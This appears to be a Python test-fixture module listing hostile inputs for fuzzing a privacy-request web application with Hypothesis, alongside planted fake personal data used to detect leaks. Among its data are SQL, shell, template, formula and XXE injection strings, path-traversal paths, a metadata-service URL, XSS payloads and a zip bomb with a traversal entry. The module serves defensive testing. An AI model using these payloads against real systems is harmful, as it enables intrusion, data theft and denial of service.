"""What somebody hostile, or a broken program, sends: texts, files, bodies, headers, ways into folders.

`PLANTED` is what belongs to a person and must come out nowhere; it stands among the texts, so that it is sent too.
"""

import gzip
import io
import struct
import zipfile
from functools import cache
from urllib.parse import quote_from_bytes

from hypothesis import strategies as st

NAME, ADDRESS, PHONE = "Quillfeather", "ada.quillfeather@example.org", "+49 30 5550 1734"
ACCOUNT, SAID = "acct-77120934", "the heron stole my violet ink"
PLANTED = (NAME, ADDRESS, PHONE, ACCOUNT, SAID)

LONG = "ä" * 500_000
BIG = "x" * 1_000_000

TEXTS = (
    "",
    " ",
    "\0",
    f"\0{SAID}\0",
    "a\r\nSet-Cookie: upheld=1\r\n\r\n<script>",
    "\r\n.\r\n",
    "\ud800",
    "\U0010ffff\ufffe\uffff",
    "\u202e\u2066gro.elpmaxe@ada\u2069",
    "\u200b\u200d\ufeff",
    "é" * 300 + "e\u0301" * 300,
    "ﷺ" * 600,
    "0",
    "-1",
    "1e309",
    "NaN",
    "٣",
    "9" * 4000,
    str(2**31),
    str(2**63),
    str(2**64 + 1),
    "-" + "9" * 30,
    "0001-01-01",
    "9999-12-31",
    "2026-02-30",
    "-2026-01-01",
    "24:61",
    "on",
    "true",
    "null",
    "[]",
    '{"$ne": null}',
    "yes",
    "no",
    "send",
    "ERASURE",
    "ACCESS",
    "gdpr",
    "ccpa",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/stdin",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/",
    "//example.net/",
    "javascript:alert(1)",
    "https://[",
    "{{ 7*7 }}{% debug %}{{ settings.SECRET_KEY }}",
    "{0.__class__.__mro__}{name!r}{",
    "%s%n%(name)s%",
    "${jndi:ldap://127.0.0.1/a}${HOME}",
    "$(id)`id`;id|id",
    "' OR 1=1 --",
    '"; DROP TABLE store_case; --',
    '=HYPERLINK("http://example.net/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)\t-2+3",
    "<script>alert(1)</script>",
    '"><svg/onload=alert(1)>',
    "</textarea><!--",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "&#xD800;&#0;",
    "!!python/object/apply:os.system ['id']",
    "- &a [*a, *a]",
    "a@b",
    "a@" + "b." * 200 + "c",
    '"a b"@example.org',
    "ada@xn--bcher-kva.example",
    "ada@bücher.example",
    "a" * 254 + "@example.org",
    "a@b.example\n" * 9,
    "a@b.example\nBcc: c@d.example",
    "00000000-0000-0000-0000-000000000000",
    "x" * 32,
    "000000",
    LONG,
    BIG,
    NAME,
    f"Ada {NAME}",
    ADDRESS,
    PHONE,
    ACCOUNT,
    SAID,
    f"{ADDRESS}\0",
    f"{SAID} \ud800",
    f"{ADDRESS}\n{ADDRESS.upper()}",
)  # fmt: skip

WAYS = tuple(
    quote_from_bytes(each, safe="/%")
    for each in (
        b"%00",
        b"..%2f..%2f..%2fetc%2fpasswd",
        b"../../etc/passwd",
        b"..%5c..%5cwin.ini",
        b"%2e%2e/%2e%2e/upheld.sqlite3",
        b"%252e%252e%252fx",
        b"%ed%a0%80",
        b"%ff%fe",
        b"%c0%ae%c0%ae/",
        b"\xe2\x80\xae",
        b"-1",
        b"0",
        b"99999999999999999999999999",
        str(2**63).encode(),
        b"9" * 5000,
        b"00000000-0000-0000-0000-000000000000",
        b"00000000-0000-0000-0000-00000000000G",
        b"x" * 32,
        b"x" * 9000,
        b"index.html%00.png",
        b"{{7*7}}",
        b"%25s%25n",
        b"a//b",
        b"%0d%0aSet-Cookie:%20a=b",
        b";a=b",
        b"en%20",
    )
)
"""In place of an argument in an address, as they stand in the first line of a request."""

QUERIES = (
    "",
    "%",
    "%zz&=&&==",
    "a=%00",
    "for=copy.delete.%ff&law=x&by=hand",
    "for=" + "copy." * 3000,
    "law=%ED%A0%80",
    "page=-1",
    "page=99999999999999999999",
    "after=%00&before=%00",
    "after=9999-99-99&state=x",
    "next=//example.net/&next=javascript:alert(1)",
    "language=../../x",
    "&".join(f"a{n}=1" for n in range(900)),
    "q=" + "x" * 60_000,
)

HEADERS: tuple[dict[str, str], ...] = (
    {},
    {"HTTP_ACCEPT_LANGUAGE": "x" * 5000},
    {"HTTP_ACCEPT_LANGUAGE": "de;q=nan,fr;q=-1,../../etc;q=1,\xff"},
    {"HTTP_X_FORWARDED_FOR": "1.2.3.4, " * 900},
    {"HTTP_X_FORWARDED_FOR": "::ffff:999.1.1.1, [::1]:80"},
    {"REMOTE_ADDR": ""},
    {"REMOTE_ADDR": "fe80::1%eth0"},
    {"HTTP_HOST": "example.net"},
    {"HTTP_HOST": "127.0.0.1:99999999"},
    {"HTTP_HOST": "a\xffb"},
    {"HTTP_COOKIE": "upheld=\xff\xfe; upheld-form=; messages=W1td; =; a=b; a=c; " + "x" * 5000},
    {"HTTP_COOKIE": 'upheld="\\377"; messages="x:y:z"; sessionid=' + "a" * 900},
    {"HTTP_IF_MODIFIED_SINCE": "Thu, 99 Foo 99999 99:99:99 GMT"},
    {"HTTP_IF_NONE_MATCH": "\xff" * 99},
    {"HTTP_RANGE": "bytes=9999999999999-0,-1,a-b"},
    {"HTTP_REFERER": "http://[::1"},
    {"HTTP_ORIGIN": "null"},
    {"HTTP_TRANSFER_ENCODING": "chunked"},
    {"HTTP_CONTENT_ENCODING": "gzip"},
    {"HTTP_X_HTTP_METHOD_OVERRIDE": "DELETE"},
    {"HTTP_AUTHORIZATION": "Basic \xff"},
)
METHODS = ("GET", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "get", "\xff")


@cache
def bomb() -> bytes:
    """A ZIP of a few kilobytes that says it is 40 MB, and holds a way out of its folder."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("../../../tmp/upheld-was-here", b"x")
        archive.writestr("a/" * 200 + "zeros", bytes(40_000_000))
    return made.getvalue()


@cache
def files() -> tuple[tuple[str, str, bytes], ...]:
    """Name, claimed type and content: names that lead elsewhere, types that lie, content that blows up."""
    huge = struct.pack(">II", 2**31 - 1, 2**31 - 1)
    return (
        ("a.pdf", "application/pdf", b"MZ\x90\x00\x03 no PDF"),
        ("a.pdf", "application/pdf", b"%PDF-1.7\n" + SAID.encode() + b"\n%%EOF"),
        ("a.png", "image/png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + huge + bytes(9)),
        ("a.jpg", "image/jpeg", b"\xff\xd8\xff\xe0" + bytes(40)),
        ("a.svg", "image/png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("a.txt", "text/plain", f"{NAME} {ADDRESS} {SAID}".encode()),
        ("a.txt", "text/plain", b"\xff\xfe\x00\xd8"),
        ("a.zip", "application/zip", bomb()),
        ("a.pdf", "application/pdf", bomb()),
        ("a.gz", "text/plain", gzip.compress(bytes(5_000_000), 9)),
        ("a.json", "application/json", b"[" * 100_000),
        ("a.json", "application/json", b'{"a":' * 3_000 + b"1" + b"}" * 3_000),
        ("a.json", "application/json", b'{"case":"' + b"9" * 5000 + b'","format":"upheld-certificate/v1"}\n'),
        ("a.json", "application/json", b'{"n":1e999,"m":' + b"9" * 5000 + b"}\n"),
        ("a.eml", "message/rfc822", mail()),
        ("a.eml", "message/rfc822", b"Content-Type: multipart/mixed; boundary=a\n\n" + b"--a\n" * 5000),
        ("a.eml", "message/rfc822", b"Content-Type: message/rfc822\n\n" * 3000),
        ("a.eml", "message/rfc822", b"Subject: " + b"=?utf-8?b?" * 5000),
        ("a.csv", "text/csv", f"name,email\n=1+1,{ADDRESS}\n".encode() * 300),
        ("a.html", "text/html", f"<p>{SAID}<script>alert(1)</script>".encode() + b"<div>" * 20_000),
        ("a.yaml", "text/yaml", b"a: &a [x]\nb: &b [*a,*a,*a]\nc: [*b,*b,*b]\n"),
        ("../../../etc/cron.d/x", "text/plain", b"hello"),
        ("a\0.txt", "text/plain", b"hello"),
        (f"{NAME}" + "x" * 4000 + ".txt", "text/plain", b"hello"),
        ("\u202egnp.exe", "text/plain", b"hello"),
        ("=cmd|'/C calc'!A0.txt", "text/plain", b"hello"),
        ("", "text/plain", b"hello"),
        ("a.txt", "text/plain; charset=no-such", b"hello"),
        ("a.txt", "\xff/\xff", b"hello"),
        ("a.txt", "text/plain", b""),
        ("a.txt", "text/plain", b"x" * 3_000_000),
    )  # fmt: skip


def mail() -> bytes:
    """An e-mail as a person writes it, with an attachment that is none."""
    return (
        f"From: Ada {NAME} <{ADDRESS}>\r\nTo: privacy@larkspur.example\r\nSubject: my data\r\n"
        "Date: Mon, 99 Foo 2026 25:61:00 +9999\r\nMessage-ID: <1>\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=none\r\n\r\n"
        f"Please delete my data. {SAID}. {PHONE} {ACCOUNT}\r\n--b\r\n"
        'Content-Type: application/pdf\r\nContent-Disposition: attachment; filename="../../x"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\n====\r\n--b--\r\n"
    ).encode()


TEXT = st.one_of(st.sampled_from(TEXTS), st.text(max_size=40), st.characters(codec=None).map(str))
FILE = st.sampled_from(files()) | st.tuples(
    st.text(max_size=12), st.text(max_size=12), st.binary(max_size=200)
)
